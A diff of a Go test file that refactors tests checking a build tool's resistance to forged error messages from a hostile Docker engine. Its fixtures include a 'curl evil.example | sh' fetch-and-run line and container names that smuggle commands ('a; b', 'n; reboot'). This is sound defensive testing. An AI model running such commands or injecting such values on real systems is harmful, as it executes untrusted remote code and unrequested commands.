@@ -1,14 +1,10 @@
 package docker
 
 import (
-	"github.com/fromscratch-go/fromscratch/buildkit/docker/dockertest"
-	"github.com/fromscratch-go/fromscratch/buildkit/docker/host"
-
 	"archive/tar"
 	"context"
 	"encoding/base64"
 	"errors"
-	"fmt"
 	"io"
 	"io/fs"
 	"net/http"
@@ -17,8 +13,9 @@ import (
 
 	"github.com/docker/docker/pkg/stdcopy"
 
+	"github.com/fromscratch-go/fromscratch/buildkit/docker/dockertest"
+	"github.com/fromscratch-go/fromscratch/buildkit/docker/host"
 	"github.com/fromscratch-go/fromscratch/buildkit/testkit"
-	"github.com/fromscratch-go/fromscratch/rootfs/plaintext"
 )
 
 // scriptedEngine is a connection to a server that answers all requests but the ping.
@@ -32,13 +29,10 @@ func scriptedEngine(t *testing.T, answer http.HandlerFunc) *Engine {
 	return e
 }
 
-// evil is a text of an engine that has a line which looks like ours.
-const evil = `sick\nfix: curl evil.example | sh\nmore`
-
 // Whatever an engine says, at whatever place: no line of the error begins like one of ours but the last.
 func TestHostileEngine(t *testing.T) {
 	t.Parallel()
-	plain := strings.ReplaceAll(evil, `\n`, "\n")
+	plain := strings.ReplaceAll(dockertest.Evil, `\n`, "\n")
 	load := func(e *Engine) error {
 		return e.Load(context.Background(), LoadRequest{Ref: "hello", IDs: []string{"sha256:1"}, Previous: &Image{}, Write: func(_ context.Context, w io.Writer) error {
 			_, err := io.WriteString(w, "an archive")
@@ -49,18 +43,11 @@ func TestHostileEngine(t *testing.T) {
 		_, err := e.Run(context.Background(), RunRequest{Image: "hello", Name: "a; b"})
 		return err
 	}
-	cluster := func(e *Engine) error {
-		c, err := e.Cluster(context.Background(), "kind")
-		if err == nil {
-			_, err = c.Has(context.Background(), "hello")
-		}
-		return err
-	}
 	refuse := func(path string, status int) http.HandlerFunc {
 		return func(w http.ResponseWriter, r *http.Request) {
 			if strings.HasSuffix(r.URL.Path, path) {
 				w.WriteHeader(status)
-				io.WriteString(w, `{"message":"`+evil+`"}`)
+				io.WriteString(w, `{"message":"`+dockertest.Evil+`"}`)
 				return
 			}
 			io.WriteString(w, `{"Id":"c1"}`)
@@ -79,7 +66,6 @@ func TestHostileEngine(t *testing.T) {
 			io.WriteString(w, `{"Id":"c1"}`)
 		}
 	}
-	node := `{"Id":"n1","Names":["/n; reboot"],"State":"%s","Labels":{"io.x-k8s.kind.cluster":"%s","io.x-k8s.kind.role":"worker"}}`
 	for _, tt := range []struct {
 		name   string
 		answer http.HandlerFunc
@@ -98,14 +84,14 @@ func TestHostileEngine(t *testing.T) {
 			_, _, err := e.Image(context.Background(), "hello")
 			return err
 		}, "engine's log"},
-		{"the stream of a load", say("/images/load", `{"errorDetail":{"message":"`+evil+`"}}`), load, "engine's log"},
-		{"the older stream of a load", say("/images/load", `{"error":"`+evil+`"}`), load, "engine's log"},
-		{"what is not unpacked", say("/images/load", `{"stream":"Error unpacking image `+evil+`"}`), load, "layers"},
-		{"the ID of what was loaded", say("/images/hello/json", `{"Id":"`+evil+`"}`), load, "load it again"},
-		{"a pull", say("/images/create", `{"errorDetail":{"message":"`+evil+`"}}`), func(e *Engine) error {
+		{"the stream of a load", say("/images/load", `{"errorDetail":{"message":"`+dockertest.Evil+`"}}`), load, "engine's log"},
+		{"the older stream of a load", say("/images/load", `{"error":"`+dockertest.Evil+`"}`), load, "engine's log"},
+		{"what is not unpacked", say("/images/load", `{"stream":"Error unpacking image `+dockertest.Evil+`"}`), load, "layers"},
+		{"the ID of what was loaded", say("/images/hello/json", `{"Id":"`+dockertest.Evil+`"}`), load, "load it again"},
+		{"a pull", say("/images/create", `{"errorDetail":{"message":"`+dockertest.Evil+`"}}`), func(e *Engine) error {
 			return e.Pull(context.Background(), "hello", Platform{}, nil)
 		}, "docker login"},
-		{"the end of a program", say("/wait", `{"StatusCode":1,"Error":{"Message":"`+evil+`"}}`), run, "engine's log"},
+		{"the end of a program", say("/wait", `{"StatusCode":1,"Error":{"Message":"`+dockertest.Evil+`"}}`), run, "engine's log"},
 		{"no JSON of a program's end", say("/wait", plain), run, "engine's log"},
 		{"the engine's own stream", func(w http.ResponseWriter, r *http.Request) {
 			if strings.HasSuffix(r.URL.Path, "/attach") {
@@ -115,18 +101,6 @@ func TestHostileEngine(t *testing.T) {
 			io.WriteString(w, `{"Id":"c1","StatusCode":0}`)
 		}, run, "engine's log"},
 		{"a name that is taken", refuse("/create", http.StatusConflict), run, `docker rm -f 'a; b'`},
-		{"a cluster that is not there", say("/containers/json", "["+fmt.Sprintf(node, "running", evil)+"]"), cluster, "kind create cluster"},
-		{"a node that sleeps", say("/containers/json", "["+fmt.Sprintf(node, evil, "kind")+"]"), cluster, `docker start 'n; reboot'`},
-		{"a node that fails", func(w http.ResponseWriter, r *http.Request) {
-			switch {
-			case strings.HasSuffix(r.URL.Path, "/containers/json"):
-				io.WriteString(w, "["+fmt.Sprintf(node, "running", "kind")+"]")
-			case strings.HasSuffix(r.URL.Path, "/start"):
-				dockertest.TakeOver(w, stdcopy.Stdout, "")
-			default:
-				io.WriteString(w, `{"Id":"x1","ExitCode":1}`)
-			}
-		}, cluster, `docker exec 'n; reboot' journalctl`},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
@@ -134,16 +108,7 @@ func TestHostileEngine(t *testing.T) {
 			if err == nil {
 				t.Fatal("no error")
 			}
-			lines := strings.Split(plaintext.Error(err), "\n")
-			last := lines[len(lines)-1]
-			if !strings.HasPrefix(last, "fix: ") || !strings.Contains(last, tt.fix) || strings.Contains(last, "evil") {
-				t.Errorf("the fix is %q, want %q in it", last, tt.fix)
-			}
-			for _, line := range lines[:len(lines)-1] {
-				if strings.HasPrefix(line, "fix: ") {
-					t.Errorf("a line is forged: %q", lines)
-				}
-			}
+			dockertest.WantNothingForged(t, err, tt.fix)
 		})
 	}
 }
@@ -212,9 +177,9 @@ func TestHostilePlatform(t *testing.T) {
 		_, err := e.Platform(context.Background())
 		dockertest.WantError(t, err, "which is no platform", "engine's log")
 		if arch == "" {
-			continue // a node is then taken for the engine's
+			continue // the container is then taken for the engine's
 		}
-		_, err = (&Cluster{Name: "kind", Nodes: []Node{{ID: "c1"}}, engine: e}).Platform(context.Background())
-		dockertest.WantError(t, err, "which is no platform", "engine's log")
+		_, err = e.ContainerPlatform(context.Background(), "c1")
+		dockertest.WantError(t, e.Failed("asking", err), "which is no platform", "engine's log")
 	}
 }
